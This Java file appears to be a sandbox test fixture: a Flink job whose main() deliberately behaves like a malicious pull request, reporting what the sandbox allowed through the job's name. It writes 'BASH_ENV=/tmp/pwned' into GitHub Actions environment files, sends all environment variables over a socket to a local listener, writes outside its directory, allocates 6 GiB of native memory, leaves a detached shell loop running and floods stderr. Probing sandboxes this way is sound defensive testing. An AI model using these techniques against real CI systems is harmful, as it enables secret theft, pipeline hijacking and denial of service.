import java.io.IOException;
import java.lang.reflect.Field;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.nio.file.StandardOpenOption;
import java.util.Map;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.stream.Stream;

import org.apache.flink.streaming.api.environment.StreamExecutionEnvironment;

/**
 * A job JAR whose main() does what an attacker's pull request would (tests/hostile/test_jars.py),
 * then builds a small job named by what it saw: the sandbox lets it write nothing outside its
 * temporary directory, so its report comes back in its graph.
 *
 * Arguments: a directory outside the sandbox, the port of a listener on 127.0.0.1, a marker for the
 * processes it leaves running, and "flood" to write 400 MB to stderr.
 */
public class Hostile {
    public static void main(String[] args) throws Exception {
        Map<String, String> seen = new TreeMap<>();
        Map<String, String> env = System.getenv();
        seen.put("env", String.join(",", new TreeSet<>(env.keySet())));
        for (String name : new String[] {"GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_PATH", "GITHUB_STEP_SUMMARY"}) {
            Path file = Paths.get(env.getOrDefault(name, args[0] + "/" + name.toLowerCase()));
            try {
                seen.put("read " + name, new String(Files.readAllBytes(file), StandardCharsets.UTF_8));
                Files.write(file, "BASH_ENV=/tmp/pwned\n".getBytes(StandardCharsets.UTF_8), StandardOpenOption.APPEND);
                seen.put("write " + name, "written");
            } catch (IOException e) {
                seen.put("write " + name, e.getClass().getSimpleName());
            }
        }
        try (Socket s = new Socket()) {
            s.connect(new InetSocketAddress("127.0.0.1", Integer.parseInt(args[1])), 3000);
            s.getOutputStream().write(env.toString().getBytes(StandardCharsets.UTF_8));
            seen.put("network", "reached");
        } catch (IOException e) {
            seen.put("network", e.getClass().getSimpleName());
        }
        try {
            Files.write(Paths.get(args[0], "outside"), new byte[] {1});
            seen.put("outside", "written");
        } catch (IOException e) {
            seen.put("outside", e.getClass().getSimpleName());
        }
        for (String line : Files.readAllLines(Paths.get("/proc/self/limits"))) {
            for (String limit : new String[] {"Max address space", "Max cpu time", "Max file size"}) {
                if (line.startsWith(limit)) {
                    seen.put(limit, line.substring(26).trim().split("\\s+")[0]);
                }
            }
        }
        try (Stream<Path> proc = Files.list(Paths.get("/proc"))) {
            seen.put("processes", Long.toString(proc.filter(p -> p.getFileName().toString().matches("\\d+")).count()));
        }
        Field field = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");
        field.setAccessible(true);
        sun.misc.Unsafe unsafe = (sun.misc.Unsafe) field.get(null);
        try {
            unsafe.freeMemory(unsafe.allocateMemory(6L << 30));
            seen.put("native 6 GiB", "allocated");
        } catch (OutOfMemoryError e) {
            seen.put("native 6 GiB", "refused");
        }
        // A shell loop in a session of its own that holds the JVM's stderr open.
        new ProcessBuilder("setsid", "sh", "-c", "while true; do sleep 1; done # " + args[2])
                .redirectOutput(ProcessBuilder.Redirect.INHERIT).redirectError(ProcessBuilder.Redirect.INHERIT).start();
        if (args.length > 3 && args[3].equals("flood")) {
            // (straight to file descriptor 2: the client silences System.err while main() runs)
            byte[] chunk = new byte[1 << 20];
            java.util.Arrays.fill(chunk, (byte) 'x');
            try (java.io.FileOutputStream err = new java.io.FileOutputStream(java.io.FileDescriptor.err)) {
                for (int i = 0; i < 400; i++) {
                    err.write(chunk);
                }
            }
        }
        StringBuilder name = new StringBuilder("{");
        for (Map.Entry<String, String> e : seen.entrySet()) {
            name.append(name.length() > 1 ? "," : "").append(quote(e.getKey())).append(':').append(quote(e.getValue()));
        }
        StreamExecutionEnvironment see = StreamExecutionEnvironment.getExecutionEnvironment();
        see.fromSequence(0, 1).uid("numbers").print().uid("print");
        see.execute(name.append('}').toString());
    }

    static String quote(String s) {
        StringBuilder out = new StringBuilder("\"");
        for (char c : s.toCharArray()) {
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 0x20) {
                out.append(String.format("\\u%04x", (int) c));
            } else {
                out.append(c);
            }
        }
        return out.append('"').toString();
    }
}
